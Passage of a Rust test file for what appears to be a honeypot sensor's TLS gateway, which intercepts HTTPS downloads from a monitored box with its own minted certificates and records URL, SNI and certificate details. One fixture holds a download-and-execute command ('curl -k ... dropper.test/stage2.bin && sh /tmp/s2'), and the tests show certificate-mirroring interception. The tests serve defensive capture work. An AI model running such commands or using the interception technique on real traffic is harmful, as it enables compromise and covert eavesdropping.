//! HTTPS through the gateway against real sockets: a TLS web server of the test's
//! own on loopback (its own test CA, which the fetcher is told to trust), the box a
//! rustls client (or real curl and wget) trusting the sensor's CA.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use hermes_core::address_block::AddressBlock;
use hermes_core::boxnet::BoxOwner;
use hermes_core::capture::{FetchHints, FileStore, sha256_hex};
use hermes_core::config::{EgressConfig, Seconds};
use hermes_core::events::{ConnectionContext, Event, EventId};
use hermes_core::ids::SessionId;
use hermes_core::testing::RecordedEvents;
use rcgen::{BasicConstraints, CertificateParams, DnType, IsCa, Issuer, KeyPair};
use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer, ServerName};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

use super::tests::have;
use super::{Fetcher, serve_tls};
use crate::BoxContext;
use crate::host_addresses::HostAddresses;
use crate::ssrf::UpstreamPolicy;
use crate::tls::{CaName, SensorCa, TlsGateway};

/// A certificate and its key, as a server uses them.
pub(crate) struct Leaf {
    pub(crate) der: CertificateDer<'static>,
    key: PrivateKeyDer<'static>,
}

/// The test's own CA, standing for the public web PKI.
pub(crate) struct TestCa {
    issuer: Issuer<'static, KeyPair>,
    pub(crate) der: CertificateDer<'static>,
}

pub(crate) fn test_ca() -> TestCa {
    let key = KeyPair::generate().expect("key");
    let mut params = CertificateParams::default();
    params.distinguished_name = rcgen::DistinguishedName::new();
    params
        .distinguished_name
        .push(DnType::CommonName, "Test Web Root");
    params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    let der = params.self_signed(&key).expect("ca").der().clone();
    TestCa {
        issuer: Issuer::new(params, key),
        der,
    }
}

impl TestCa {
    /// A server certificate for `names` (DNS names or addresses).
    pub(crate) fn leaf(&self, names: &[&str]) -> Leaf {
        let key = KeyPair::generate().expect("key");
        let names: Vec<String> = names.iter().map(|name| name.to_string()).collect();
        let mut params = CertificateParams::new(names).expect("params");
        params.distinguished_name = rcgen::DistinguishedName::new();
        params
            .distinguished_name
            .push(DnType::CommonName, "dropper.test");
        params.not_after = rcgen::date_time_ymd(2099, 1, 2);
        let der = params
            .signed_by(&key, &self.issuer)
            .expect("leaf")
            .der()
            .clone();
        Leaf {
            der,
            key: PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
        }
    }
}

/// A self-signed certificate no root vouches for.
fn self_signed(names: &[&str]) -> Leaf {
    let key = KeyPair::generate().expect("key");
    let names: Vec<String> = names.iter().map(|name| name.to_string()).collect();
    let params = CertificateParams::new(names).expect("params");
    let der = params.self_signed(&key).expect("cert").der().clone();
    Leaf {
        der,
        key: PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
    }
}

/// A TLS web server on loopback answering every request with `body`; it notes the
/// SNI of each connection that completed a handshake, and every connection.
pub(crate) struct Server {
    pub(crate) address: SocketAddr,
    connections: Arc<AtomicUsize>,
    pub(crate) names: Arc<Mutex<Vec<Option<String>>>>,
    pub(crate) requests: Arc<Mutex<Vec<String>>>,
    task: tokio::task::JoinHandle<()>,
}

impl Drop for Server {
    fn drop(&mut self) {
        self.task.abort();
    }
}

pub(crate) async fn server(leaf: Leaf, body: Vec<u8>) -> Server {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .expect("versions")
        .with_no_client_auth()
        .with_single_cert(vec![leaf.der], leaf.key)
        .expect("server config");
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let address = listener.local_addr().expect("address");
    let connections = Arc::new(AtomicUsize::new(0));
    let names = Arc::new(Mutex::new(Vec::new()));
    let requests = Arc::new(Mutex::new(Vec::new()));
    let task = tokio::spawn({
        let (connections, names, requests) = (
            Arc::clone(&connections),
            Arc::clone(&names),
            Arc::clone(&requests),
        );
        async move {
            while let Ok((socket, _)) = listener.accept().await {
                connections.fetch_add(1, Ordering::SeqCst);
                let (acceptor, names, requests, body) = (
                    acceptor.clone(),
                    Arc::clone(&names),
                    Arc::clone(&requests),
                    body.clone(),
                );
                tokio::spawn(async move {
                    let Ok(mut stream) = acceptor.accept(socket).await else {
                        return;
                    };
                    let sni = stream.get_ref().1.server_name().map(str::to_owned);
                    names.lock().expect("lock").push(sni);
                    let mut head = Vec::new();
                    let mut byte = [0u8; 1];
                    while !head.ends_with(b"\r\n\r\n") && head.len() < 65536 {
                        match stream.read(&mut byte).await {
                            Ok(1) => head.push(byte[0]),
                            _ => break,
                        }
                    }
                    requests
                        .lock()
                        .expect("lock")
                        .push(String::from_utf8_lossy(&head).into_owned());
                    let mut response =
                        format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", body.len())
                            .into_bytes();
                    response.extend_from_slice(&body);
                    let _ = stream.write_all(&response).await;
                    let _ = stream.shutdown().await;
                });
            }
        }
    });
    Server {
        address,
        connections,
        names,
        requests,
        task,
    }
}

struct Rig {
    fetcher: Arc<Fetcher>,
    gateway: Arc<TlsGateway>,
    events: RecordedEvents,
    ctx: BoxContext,
    _store: tempfile::TempDir,
}

pub(crate) fn ca_name() -> CaName {
    CaName {
        organization: "Northwave Hosting Ltd".to_owned(),
        common_name: "Northwave Hosting Internal CA G2".to_owned(),
    }
}

/// A gateway allowing only loopback upstream on `port`, verifying upstream
/// certificates (when `verify`) against the system's roots and `trusted`.
fn rig(port: u16, verify: bool, trusted: &[CertificateDer<'static>]) -> Rig {
    rig_on(&[port], verify, trusted)
}

/// [`rig`] on several ports.
fn rig_on(ports: &[u16], verify: bool, trusted: &[CertificateDer<'static>]) -> Rig {
    rig_with(ports, verify, trusted, |_| {})
}

/// [`rig_on`] with the configuration changed by `change`.
fn rig_with(
    ports: &[u16],
    verify: bool,
    trusted: &[CertificateDer<'static>],
    change: impl FnOnce(&mut EgressConfig),
) -> Rig {
    let mut config = EgressConfig {
        upstream_allow: vec![AddressBlock::parse("127.0.0.1/32").expect("block")],
        ..EgressConfig::default()
    };
    config.upstream_ports.extend_from_slice(ports);
    change(&mut config);
    let store_dir = tempfile::tempdir().expect("tempdir");
    let store = Arc::new(FileStore::open(store_dir.path(), 1 << 30).expect("store"));
    let policy = UpstreamPolicy::new(&config, HostAddresses::read());
    let (bus, events) = RecordedEvents::new();
    let owner = ConnectionContext {
        session: SessionId::random(),
        src: "198.51.100.7:40000".parse().expect("addr"),
        dst: "192.0.2.10:22".parse().expect("addr"),
    };
    let ctx = BoxContext {
        container_id: "c0ffee".to_owned(),
        owner: Arc::new(move || Some(BoxOwner::from(owner.clone()))),
        events: bus,
    };
    let ca = SensorCa::generate(&ca_name()).expect("sensor ca");
    let gateway = TlsGateway::new(ca, verify, trusted).expect("gateway");
    Rig {
        fetcher: Arc::new(Fetcher::new(&config, policy, store)),
        gateway: Arc::new(gateway),
        events,
        ctx,
        _store: store_dir,
    }
}

impl Rig {
    /// The box, trusting `roots`, asks `name` (SNI, or an address: none) for `path`
    /// over TLS on a connection to `dst`; what it read back, or the TLS error.
    async fn fetch(
        &self,
        dst: SocketAddr,
        name: ServerName<'static>,
        roots: &[CertificateDer<'static>],
        path: &str,
    ) -> Result<Vec<u8>, std::io::Error> {
        let mut store = rustls::RootCertStore::empty();
        store.add_parsable_certificates(roots.iter().cloned());
        let provider = Arc::new(rustls::crypto::ring::default_provider());
        let config = rustls::ClientConfig::builder_with_provider(provider)
            .with_safe_default_protocol_versions()
            .expect("versions")
            .with_root_certificates(store)
            .with_no_client_auth();
        let (answer, _) = self.fetch_with(dst, name, Arc::new(config), path).await?;
        Ok(answer)
    }

    /// [`Rig::fetch`] by a box with TLS `config`: also the certificate it was shown.
    async fn fetch_with(
        &self,
        dst: SocketAddr,
        name: ServerName<'static>,
        config: Arc<rustls::ClientConfig>,
        path: &str,
    ) -> Result<(Vec<u8>, CertificateDer<'static>), std::io::Error> {
        let (box_side, gateway_side) = tokio::io::duplex(64 * 1024);
        let serve = tokio::spawn(serve_tls(
            gateway_side,
            dst,
            self.ctx.clone(),
            Arc::clone(&self.fetcher),
            Arc::clone(&self.gateway),
        ));
        let host = match &name {
            ServerName::DnsName(dns) => dns.as_ref().to_owned(),
            _ => dst.ip().to_string(),
        };
        let connector = tokio_rustls::TlsConnector::from(config);
        let result = async {
            let mut tls = connector.connect(name, box_side).await?;
            let shown = tls
                .get_ref()
                .1
                .peer_certificates()
                .and_then(|chain| chain.first())
                .map(|leaf| leaf.clone().into_owned())
                .expect("a certificate shown");
            let request = format!(
                "GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n"
            );
            tls.write_all(request.as_bytes()).await?;
            let mut answer = Vec::new();
            // A close without close_notify is an error to rustls; what came is kept.
            let _ = tls.read_to_end(&mut answer).await;
            Ok((answer, shown))
        };
        let result = tokio::time::timeout(Duration::from_secs(20), result)
            .await
            .expect("the gateway answers or closes");
        tokio::time::timeout(Duration::from_secs(20), serve)
            .await
            .expect("serve ends")
            .expect("serve");
        result
    }

    fn one(&self, id: EventId) -> Event {
        let events = self.events.of(id);
        assert_eq!(events.len(), 1, "{:?}", self.events.all());
        events.into_iter().next().expect("one")
    }

    fn sensor_ca(&self) -> Vec<CertificateDer<'static>> {
        vec![self.gateway.ca().certificate_der().clone()]
    }
}

#[tokio::test]
async fn an_https_download_a_command_asked_for_gets_its_destfile() {
    let web = test_ca();
    let leaf = web.leaf(&["dropper.test", "127.0.0.1"]);
    let payload = b"stage two\n".to_vec();
    let server = server(leaf, payload.clone()).await;
    let mut rig = rig(server.address.port(), true, std::slice::from_ref(&web.der));
    let hints = FetchHints::default();
    hints.note("curl -k -sS -o /tmp/s2 HTTPS://dropper.test:443/stage2.bin && sh /tmp/s2");
    let owner = BoxOwner {
        context: (rig.ctx.owner)().expect("an owner").context,
        hints,
    };
    rig.ctx.owner = Arc::new(move || Some(owner.clone()));
    rig.fetch(
        server.address,
        dns("dropper.test"),
        &rig.sensor_ca(),
        "/stage2.bin",
    )
    .await
    .expect("the box trusts the minted certificate");
    let event = rig.one(EventId::FileDownload);
    assert_eq!(text(&event, "url"), "https://dropper.test/stage2.bin");
    assert_eq!(text(&event, "shasum"), sha256_hex(&payload));
    assert_eq!(text(&event, "destfile"), "/tmp/s2");
}

fn text(event: &Event, field: &str) -> String {
    event
        .get(field)
        .and_then(|v| v.as_str())
        .unwrap_or_default()
        .to_owned()
}

fn dns(name: &str) -> ServerName<'static> {
    ServerName::try_from(name.to_owned()).expect("name")
}

pub(crate) fn body_of(answer: &[u8]) -> &[u8] {
    let end = answer
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("a response head");
    &answer[end + 4..]
}

#[tokio::test]
async fn https_is_captured_with_its_url_sni_and_the_upstream_certificate() {
    let web = test_ca();
    let leaf = web.leaf(&["dropper.test", "127.0.0.1"]);
    let leaf_der = leaf.der.clone();
    let payload: Vec<u8> = (0..40_000u32).map(|i| (i % 251) as u8).collect();
    let server = server(leaf, payload.clone()).await;
    let rig = rig(server.address.port(), true, std::slice::from_ref(&web.der));

    let answer = rig
        .fetch(
            server.address,
            dns("dropper.test"),
            &rig.sensor_ca(),
            "/stage2.bin",
        )
        .await
        .expect("the box trusts the minted certificate");
    assert!(answer.starts_with(b"HTTP/1.1 200 OK\r\n"));
    assert_eq!(body_of(&answer), payload.as_slice());

    let event = rig.one(EventId::FileDownload);
    assert_eq!(text(&event, "url"), "https://dropper.test/stage2.bin");
    assert_eq!(text(&event, "shasum"), sha256_hex(&payload));
    assert_eq!(text(&event, "sni"), "dropper.test");
    assert_eq!(text(&event, "upstream_cert_sha256"), sha256_hex(&leaf_der));
    assert_eq!(text(&event, "upstream_cert_subject"), "CN=dropper.test");
    assert_eq!(text(&event, "upstream_cert_issuer"), "CN=Test Web Root");
    assert_eq!(
        text(&event, "upstream_cert_not_after"),
        "2099-01-02T00:00:00Z"
    );
    assert_eq!(
        event
            .get("upstream_cert_verified")
            .and_then(|v| v.as_bool()),
        Some(true)
    );
    let stored = std::fs::read(text(&event, "outfile")).expect("stored");
    assert_eq!(sha256_hex(&stored), sha256_hex(&payload));
    // Upstream got the box's name as SNI, and the request over TLS.
    assert_eq!(
        *server.names.lock().expect("lock"),
        vec![Some("dropper.test".to_owned())]
    );
    let requests = server.requests.lock().expect("lock").clone();
    assert!(
        requests[0].starts_with("GET /stage2.bin HTTP/1.1\r\n"),
        "{requests:?}"
    );

    // A second fetch of the name reuses its leaf.
    assert_eq!(rig.gateway.leaves_kept(), 1);
    rig.fetch(
        server.address,
        dns("dropper.test"),
        &rig.sensor_ca(),
        "/again",
    )
    .await
    .expect("again");
    assert_eq!(rig.gateway.leaves_kept(), 1);
    assert_eq!(server.connections.load(Ordering::SeqCst), 2);
}

#[tokio::test]
async fn without_sni_the_leaf_is_for_the_address_and_upstream_is_checked_against_it() {
    let web = test_ca();
    let server = server(web.leaf(&["127.0.0.1"]), b"by address\n".to_vec()).await;
    let rig = rig(server.address.port(), true, std::slice::from_ref(&web.der));
    let address = ServerName::IpAddress(server.address.ip().into());
    let answer = rig
        .fetch(server.address, address, &rig.sensor_ca(), "/x")
        .await
        .expect("the box trusts the leaf minted for the address");
    assert_eq!(body_of(&answer), b"by address\n");
    let event = rig.one(EventId::FileDownload);
    assert_eq!(
        text(&event, "url"),
        format!("https://127.0.0.1/x"),
        "the Host header names the address"
    );
    assert!(event.get("sni").is_none());
    assert_eq!(*server.names.lock().expect("lock"), vec![None]);
}

/// No GET reached `server` (connections that only shook hands leave an empty head).
fn no_request(server: &Server) -> bool {
    let requests = server.requests.lock().expect("lock");
    requests.iter().all(|head| !head.starts_with("GET"))
}

#[tokio::test]
async fn an_unverifiable_upstream_certificate_is_mirrored_so_only_a_box_that_does_not_check_gets_the_body()
 {
    let web = test_ca();
    let bogus = self_signed(&["dropper.test"]);
    let bogus_der = bogus.der.clone();
    let body = b"payload behind a bad certificate\n".to_vec();
    let server = server(bogus, body.clone()).await;
    let strict = rig(server.address.port(), true, std::slice::from_ref(&web.der));

    // A box that checks (it trusts the sensor's CA, not this server's certificate):
    // it is shown a mirror it refuses, as it would refuse the server's own; nothing
    // is asked upstream, and the failure says why.
    let refused = strict
        .fetch(
            server.address,
            dns("dropper.test"),
            &strict.sensor_ca(),
            "/p",
        )
        .await;
    assert!(refused.is_err(), "a verifying box must refuse the mirror");
    let failed = strict.one(EventId::FileDownloadFailed);
    assert_eq!(text(&failed, "reason"), "tls_handshake");
    assert_eq!(
        text(&failed, "url"),
        format!("https://dropper.test:{}/", server.address.port())
    );
    assert_eq!(text(&failed, "sni"), "dropper.test");
    assert_eq!(
        text(&failed, "upstream_cert_sha256"),
        sha256_hex(&bogus_der)
    );
    assert_eq!(
        failed
            .get("upstream_cert_verified")
            .and_then(|v| v.as_bool()),
        Some(false)
    );
    assert!(
        text(&failed, "upstream_cert_error").contains("certificate"),
        "{failed:?}"
    );
    assert!(strict.events.of(EventId::FileDownload).is_empty());
    assert_eq!(server.connections.load(Ordering::SeqCst), 1);
    assert_eq!(
        *server.names.lock().expect("lock"),
        vec![Some("dropper.test".to_owned())]
    );
    assert!(no_request(&server));

    // A box that does not check (curl -k): it gets the body, which is kept, on the
    // certificate that mirrors the server's (same names, not the same key).
    let (answer, shown) = strict
        .fetch_with(
            server.address,
            dns("dropper.test"),
            crate::tls::client_config().expect("a client that does not check"),
            "/p",
        )
        .await
        .expect("fetch");
    assert_eq!(body_of(&answer), body.as_slice());
    let event = strict.one(EventId::FileDownload);
    assert_eq!(text(&event, "shasum"), sha256_hex(&body));
    assert_eq!(text(&event, "url"), "https://dropper.test/p");
    assert_eq!(text(&event, "upstream_cert_sha256"), sha256_hex(&bogus_der));
    assert_eq!(
        event
            .get("upstream_cert_verified")
            .and_then(|v| v.as_bool()),
        Some(false)
    );
    assert_eq!(
        std::fs::read(text(&event, "outfile")).expect("stored"),
        body
    );
    let (mirror, original) = (
        crate::tls::CertSummary::of(&shown).expect("shown"),
        crate::tls::CertSummary::of(&bogus_der).expect("original"),
    );
    assert_eq!(mirror.subject, original.subject);
    assert_eq!(mirror.issuer, original.issuer);
    assert_ne!(mirror.sha256, original.sha256);
    let requests = server.requests.lock().expect("lock").clone();
    assert_eq!(
        requests
            .iter()
            .filter(|r| r.starts_with("GET /p HTTP/1.1\r\n"))
            .count(),
        1,
        "{requests:?}"
    );

    // Not verified (`verify_upstream: false`): the sensor's leaf, fetched and kept,
    // nothing said about verification.
    let lax = rig(server.address.port(), false, &[]);
    let answer = lax
        .fetch(server.address, dns("dropper.test"), &lax.sensor_ca(), "/p")
        .await
        .expect("fetch");
    assert_eq!(body_of(&answer), body.as_slice());
    let event = lax.one(EventId::FileDownload);
    assert_eq!(text(&event, "shasum"), sha256_hex(&body));
    assert_eq!(text(&event, "upstream_cert_sha256"), sha256_hex(&bogus_der));
    assert_eq!(
        text(&event, "upstream_cert_subject"),
        "CN=rcgen self signed cert"
    );
    assert!(event.get("upstream_cert_verified").is_none(), "{event:?}");
}

#[tokio::test]
async fn a_trusted_certificate_for_another_name_is_mirrored_under_the_sensor_ca_so_the_box_fails_on_the_name()
 {
    let web = test_ca();
    let elsewhere = web.leaf(&["other.test"]);
    let elsewhere_der = elsewhere.der.clone();
    let body = b"served under another name\n".to_vec();
    let server = server(elsewhere, body.clone()).await;
    let rig = rig(server.address.port(), true, std::slice::from_ref(&web.der));

    // The box trusts the sensor's CA, so it checks the rest and fails on the name,
    // as it would against the real server.
    let refused = rig
        .fetch(server.address, dns("dropper.test"), &rig.sensor_ca(), "/n")
        .await;
    let error = refused.expect_err("the name does not match").to_string();
    assert!(error.contains("not valid for name"), "{error}");
    let failed = rig.one(EventId::FileDownloadFailed);
    assert_eq!(text(&failed, "reason"), "tls_handshake");
    assert_eq!(
        failed
            .get("upstream_cert_verified")
            .and_then(|v| v.as_bool()),
        Some(false)
    );
    assert!(
        text(&failed, "upstream_cert_error").contains("not valid for name"),
        "{failed:?}"
    );
    assert!(no_request(&server));

    // One that does not check gets the body; it was shown the server's names under
    // the sensor's CA.
    let (answer, shown) = rig
        .fetch_with(
            server.address,
            dns("dropper.test"),
            crate::tls::client_config().expect("a client that does not check"),
            "/n",
        )
        .await
        .expect("fetch");
    assert_eq!(body_of(&answer), body.as_slice());
    let event = rig.one(EventId::FileDownload);
    assert_eq!(text(&event, "shasum"), sha256_hex(&body));
    assert_eq!(
        text(&event, "upstream_cert_sha256"),
        sha256_hex(&elsewhere_der)
    );
    let summary = crate::tls::CertSummary::of(&shown).expect("shown");
    assert_eq!(
        summary.issuer,
        "O=Northwave Hosting Ltd, CN=Northwave Hosting Internal CA G2"
    );
    let fields = crate::tls::der::MirrorFields::of(&shown).expect("fields");
    assert_eq!(fields.dns_names, ["other.test"]);

    // Real curl trusting the sensor's CA says what it would say to the real server.
    if !have("curl") {
        return;
    }
    let (gateway, _task) = gateway_for(&rig, server.address).await;
    let dir = tempfile::tempdir().expect("tempdir");
    let ca_file = dir.path().join("sensor-ca.pem");
    std::fs::write(&ca_file, rig.gateway.ca().certificate_pem()).expect("ca file");
    let port = gateway.port();
    let args = [
        "-sS".to_owned(),
        "--max-time".to_owned(),
        "10".to_owned(),
        "--cacert".to_owned(),
        ca_file.display().to_string(),
        "--resolve".to_owned(),
        format!("dropper.test:{port}:127.0.0.1"),
        "-o".to_owned(),
        "/dev/null".to_owned(),
        format!("https://dropper.test:{port}/n"),
    ];
    let (code, stderr) = run("curl", args.to_vec()).await;
    assert_eq!(code, 60, "{stderr}");
    assert!(
        stderr.contains("subject name") || stderr.contains("match"),
        "{stderr}"
    );
}

#[tokio::test]
async fn a_box_not_trusting_the_sensor_ca_is_reported_and_no_request_goes_upstream() {
    let web = test_ca();
    let server = server(web.leaf(&["dropper.test"]), b"x".to_vec()).await;
    let rig = rig(server.address.port(), true, std::slice::from_ref(&web.der));
    // The box trusts only the web's CA, not the sensor's.
    let result = rig
        .fetch(
            server.address,
            dns("dropper.test"),
            std::slice::from_ref(&web.der),
            "/x",
        )
        .await;
    assert!(
        result.is_err(),
        "the box must reject the minted certificate"
    );
    let failed = rig.one(EventId::FileDownloadFailed);
    assert_eq!(text(&failed, "reason"), "tls_handshake");
    assert_eq!(text(&failed, "sni"), "dropper.test");
    assert!(text(&failed, "url").starts_with("https://dropper.test:"));
    assert_eq!(
        failed
            .get("upstream_cert_verified")
            .and_then(|v| v.as_bool()),
        Some(true)
    );
    // Upstream was reached for its certificate (as the box's own client would
    // have), but asked nothing.
    assert!(server.connections.load(Ordering::SeqCst) <= 1);
    assert!(no_request(&server));
}

#[tokio::test]
async fn a_box_that_shakes_hands_and_asks_nothing_gives_its_permit_back_within_the_connect_timeout()
{
    let web = test_ca();
    let server = server(web.leaf(&["dropper.test"]), b"for the next one\n".to_vec()).await;
    let rig = rig_with(
        &[server.address.port()],
        true,
        std::slice::from_ref(&web.der),
        |config| {
            config.limits.connect_timeout = Seconds::new(1);
            config.limits.concurrent_fetches = 1;
        },
    );
    // The box completes its handshake (upstream already open, the one permit held)
    // and then sends nothing.
    let (box_side, gateway_side) = tokio::io::duplex(64 * 1024);
    let started = std::time::Instant::now();
    let serve = tokio::spawn(serve_tls(
        gateway_side,
        server.address,
        rig.ctx.clone(),
        Arc::clone(&rig.fetcher),
        Arc::clone(&rig.gateway),
    ));
    let mut roots = rustls::RootCertStore::empty();
    roots.add_parsable_certificates(rig.sensor_ca());
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .expect("versions")
        .with_root_certificates(roots)
        .with_no_client_auth();
    let _silent = tokio_rustls::TlsConnector::from(Arc::new(config))
        .connect(dns("dropper.test"), box_side)
        .await
        .expect("the handshake");
    // Let go after the connect timeout, not the fetch's two minutes.
    tokio::time::timeout(Duration::from_secs(10), serve)
        .await
        .expect("the silent box is let go")
        .expect("serve");
    let waited = started.elapsed();
    assert!(waited >= Duration::from_millis(900), "{waited:?}");
    let failed = rig.one(EventId::FileDownloadFailed);
    assert_eq!(text(&failed, "reason"), "fetch_timeout");
    assert_eq!(
        text(&failed, "url"),
        format!("https://dropper.test:{}/", server.address.port())
    );
    assert!(no_request(&server));
    // The permit is free again: the next box's fetch goes through.
    let answer = rig
        .fetch(
            server.address,
            dns("dropper.test"),
            &rig.sensor_ca(),
            "/next",
        )
        .await
        .expect("fetch");
    assert_eq!(body_of(&answer), b"for the next one\n");
}

/// A gateway listener for real clients: every connection is served as if the box
/// had connected to `original_dst`.
async fn gateway_for(
    rig: &Rig,
    original_dst: SocketAddr,
) -> (SocketAddr, tokio::task::JoinHandle<()>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let address = listener.local_addr().expect("address");
    let (ctx, fetcher, gateway) = (
        rig.ctx.clone(),
        Arc::clone(&rig.fetcher),
        Arc::clone(&rig.gateway),
    );
    let task = tokio::spawn(async move {
        while let Ok((socket, _)) = listener.accept().await {
            tokio::spawn(serve_tls(
                socket,
                original_dst,
                ctx.clone(),
                Arc::clone(&fetcher),
                Arc::clone(&gateway),
            ));
        }
    });
    (address, task)
}

async fn run(program: &str, args: Vec<String>) -> (i32, String) {
    let program = program.to_owned();
    tokio::task::spawn_blocking(move || {
        let out = std::process::Command::new(&program)
            .args(&args)
            .output()
            .expect("run the client");
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    })
    .await
    .expect("client")
}

#[tokio::test]
async fn curl_with_the_sensor_ca_curl_k_and_wget_no_check_certificate_all_download() {
    if !have("curl") || !have("wget") {
        return;
    }
    let web = test_ca();
    let payload = b"#!/bin/sh\necho second stage\n".to_vec();
    let server = server(web.leaf(&["dropper.test", "127.0.0.1"]), payload.clone()).await;
    let rig = rig(server.address.port(), true, std::slice::from_ref(&web.der));
    let (gateway, _task) = gateway_for(&rig, server.address).await;
    let dir = tempfile::tempdir().expect("tempdir");
    let ca_file = dir.path().join("sensor-ca.pem");
    std::fs::write(&ca_file, rig.gateway.ca().certificate_pem()).expect("ca file");
    let out = |name: &str| dir.path().join(name).display().to_string();
    let port = gateway.port();
    let resolve = format!("dropper.test:{port}:127.0.0.1");
    let url = |path: &str| format!("https://dropper.test:{port}{path}");
    let curl = |extra: &[&str], file: String, url: String| {
        let mut args: Vec<String> = ["-sS", "--max-time", "10", "--resolve", &resolve, "-o"]
            .map(String::from)
            .to_vec();
        args.push(file);
        args.extend(extra.iter().map(|a| a.to_string()));
        args.push(url);
        args
    };

    let ca_arg = ca_file.display().to_string();
    let (code, stderr) = run("curl", curl(&["--cacert", &ca_arg], out("a"), url("/a"))).await;
    assert_eq!(code, 0, "curl --cacert: {stderr}");
    assert_eq!(std::fs::read(out("a")).expect("saved"), payload);

    let (code, stderr) = run("curl", curl(&["-k"], out("b"), url("/b"))).await;
    assert_eq!(code, 0, "curl -k: {stderr}");
    assert_eq!(std::fs::read(out("b")).expect("saved"), payload);

    // wget has no --resolve: it connects to the gateway's address, no SNI sent.
    let args = [
        "-q",
        "-t",
        "1",
        "-T",
        "10",
        "--no-check-certificate",
        "-O",
        &out("c"),
        &format!("https://127.0.0.1:{port}/c"),
    ]
    .map(String::from)
    .to_vec();
    let (code, stderr) = run("wget", args).await;
    assert_eq!(code, 0, "wget --no-check-certificate: {stderr}");
    assert_eq!(std::fs::read(out("c")).expect("saved"), payload);

    // Without the CA and without -k, curl refuses the minted certificate.
    let (code, _) = run("curl", curl(&[], out("d"), url("/d"))).await;
    assert_eq!(code, 60, "curl must fail certificate verification");

    rig.events.wait_for_count(EventId::FileDownload, 3).await;
    let downloads = rig.events.of(EventId::FileDownload);
    assert_eq!(downloads.len(), 3, "{:?}", rig.events.all());
    for event in &downloads {
        assert_eq!(text(event, "shasum"), sha256_hex(&payload));
        assert!(text(event, "url").starts_with("https://"), "{event:?}");
    }
    let urls: Vec<String> = downloads.iter().map(|e| text(e, "url")).collect();
    assert!(urls.contains(&url("/a")), "{urls:?}");
    assert!(urls.contains(&url("/b")), "{urls:?}");
    assert!(
        urls.contains(&format!("https://127.0.0.1:{port}/c")),
        "{urls:?}"
    );
    rig.events
        .wait_for_count(EventId::FileDownloadFailed, 1)
        .await;
    let failed = rig.one(EventId::FileDownloadFailed);
    assert_eq!(text(&failed, "reason"), "tls_handshake");
}

/// A plain web server answering every connection with `body`.
async fn plain_server(body: &'static [u8]) -> (SocketAddr, tokio::task::JoinHandle<()>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let address = listener.local_addr().expect("address");
    let task = tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut head = Vec::new();
                let mut byte = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") && head.len() < 65536 {
                    match socket.read(&mut byte).await {
                        Ok(1) => head.push(byte[0]),
                        _ => break,
                    }
                }
                let mut response =
                    format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", body.len())
                        .into_bytes();
                response.extend_from_slice(body);
                let _ = socket.write_all(&response).await;
            });
        }
    });
    (address, task)
}

#[tokio::test]
async fn the_fetch_handler_tells_https_from_http_by_the_first_byte_on_any_port() {
    use crate::parts::HttpFetch;
    use crate::seams::{BoxConnection, FetchHandler};

    let web = test_ca();
    let tls_server = server(web.leaf(&["dropper.test"]), b"over tls\n".to_vec()).await;
    let (plain, _plain_task) = plain_server(b"in clear\n").await;
    let rig = rig_on(
        &[tls_server.address.port(), plain.port()],
        true,
        std::slice::from_ref(&web.der),
    );
    let mut config = EgressConfig {
        upstream_allow: vec![AddressBlock::parse("127.0.0.1/32").expect("block")],
        ..EgressConfig::default()
    };
    config
        .upstream_ports
        .extend([tls_server.address.port(), plain.port()]);
    let handler = Arc::new(
        HttpFetch::new(&config, Arc::clone(&rig.fetcher))
            .with_tls(&config, Arc::clone(&rig.gateway)),
    );
    assert!(handler.wants(tls_server.address) && handler.wants(plain));
    // The gateway's listener: each connection handed over with its destination.
    let listen = |destination: SocketAddr| {
        let (handler, ctx) = (Arc::clone(&handler), rig.ctx.clone());
        async move {
            let listener = TcpListener::bind("127.0.0.1:0").await.expect("bind");
            let address = listener.local_addr().expect("address");
            let task = tokio::spawn(async move {
                while let Ok((stream, _)) = listener.accept().await {
                    let connection = BoxConnection {
                        stream,
                        destination,
                        context: ctx.clone(),
                    };
                    let handler = Arc::clone(&handler);
                    tokio::spawn(async move { handler.handle(connection).await });
                }
            });
            (address, task)
        }
    };

    // HTTPS to a port upstream_ports lists as HTTP.
    let (to_tls, _a) = listen(tls_server.address).await;
    let mut roots = rustls::RootCertStore::empty();
    roots.add_parsable_certificates(rig.sensor_ca());
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let client = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .expect("versions")
        .with_root_certificates(roots)
        .with_no_client_auth();
    let socket = tokio::net::TcpStream::connect(to_tls)
        .await
        .expect("connect");
    let mut tls = tokio_rustls::TlsConnector::from(Arc::new(client))
        .connect(dns("dropper.test"), socket)
        .await
        .expect("the gateway answers TLS");
    tls.write_all(b"GET /t HTTP/1.1\r\nHost: dropper.test\r\n\r\n")
        .await
        .expect("send");
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(20), tls.read_to_end(&mut answer)).await;
    assert!(!answer.is_empty(), "{:?}", rig.events.all());
    assert_eq!(body_of(&answer), b"over tls\n");

    // Plain HTTP through the same handler.
